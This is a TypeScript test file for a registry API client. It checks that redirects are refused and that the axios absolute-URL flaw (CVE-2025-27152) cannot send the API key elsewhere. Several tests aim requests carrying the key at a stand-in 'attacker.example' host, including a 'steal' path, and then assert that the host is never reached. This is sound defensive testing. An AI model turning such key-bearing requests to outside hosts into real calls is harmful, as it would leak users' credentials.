// Redirects are never followed (errata §1.2): the 2FA and maintenance redirects become clear
// errors, and a redirect to another origin never receives the key. Absolute URLs are refused.
import { afterEach, describe, expect, it } from 'vitest';
import nock from 'nock';
import type { RegistryError } from '../../src/index.js';
import { resolveConfig } from '../../src/config.js';
import { createTransport } from '../../src/transport/transport.js';
import { API_KEY, ORIGIN, USER } from '../helpers/nock-client.js';
import { registry, setupNock, testClient } from '../helpers/nock-client.js';

const net = setupNock();
afterEach(() => net.after());

async function failure(promise: Promise<unknown>) {
  return (await promise.catch((e: unknown) => e)) as RegistryError;
}

describe('redirects', () => {
  it('the 2FA redirect is an AuthenticationError that says what to do', async () => {
    registry().get('/member-api/v3/items').reply(302, '', { Location: '/users/2fa_choose/' });
    const error = await failure(testClient().workItems.list());
    expect(error.name).toBe('AuthenticationError');
    expect(error.message).toMatch(/two-factor/);
    expect(error.hint).toMatch(/web UI/);
  });

  it('the maintenance redirect is a 503 ServerError saying the Registry is in maintenance, not followed', async () => {
    registry().get('/member-api/v3/items').reply(302, '', { Location: '/maintenance?format=json' });
    const error = await failure(testClient().workItems.list());
    expect(error.name).toBe('ServerError');
    expect(error.code).toBe('maintenance');
    expect(error.status).toBe(503);
    expect(error.message).toMatch(/undergoing maintenance/);
  });

  it('a redirect to another origin is refused and that origin is never contacted', async () => {
    const other = nock('https://elsewhere.example').get(/.*/).reply(200, { count: 0, next: '', previous: '', results: [] });
    registry().get('/member-api/v3/items').reply(307, '', { Location: 'https://elsewhere.example/member-api/v3/items' });
    const error = await failure(testClient().workItems.list());
    expect(error.name).toBe('NetworkError');
    expect(error.code).toBe('redirect');
    expect(error.message).toMatch(/redirecting to https:\/\/elsewhere\.example; redirects are not followed/);
    expect(other.isDone()).toBe(false);
  });

  it('even a same-origin redirect (301 for a trailing slash) is reported, not silently followed', async () => {
    registry().get('/member-api/v3/items').reply(301, '', { Location: '/member-api/v3/items/' });
    const error = await failure(testClient().workItems.list());
    expect(error.code).toBe('redirect');
  });
});

describe('absolute URLs (axios CVE-2025-27152)', () => {
  it('the shared axios instance sends even an absolute URL to the base origin', async () => {
    const other = nock('https://attacker.example').get(/.*/).reply(200, 'stolen');
    const base = nock(ORIGIN).get(/.*/).reply(404, 'not here');
    const transport = createTransport(resolveConfig({ baseUrl: ORIGIN, user: USER, apiKey: API_KEY, env: {} }));
    await transport.axios
      .get('https://attacker.example/member-api/v3/items', { headers: { 'X-Pharos-API-Key': API_KEY } })
      .catch(() => undefined);
    expect(other.isDone()).toBe(false);
    expect(base.isDone()).toBe(true);
    transport.close();
  });

  it('a URL-looking identifier stays one path segment on the base origin', async () => {
    // Drive the shared axios instance the way a generated call would, with an absolute URL.
    const other = nock('https://attacker.example').get(/.*/).reply(200, {});
    registry().get(/.*/).reply(404, { error: 'Not found' });
    const client = testClient({ maxAttempts: 1 });
    // files.get() encodes the whole identifier: a URL-looking identifier stays one path segment.
    const error = await failure(client.files.get('https://attacker.example/steal'));
    expect(error.status).toBe(404);
    expect(other.isDone()).toBe(false);
  });
});
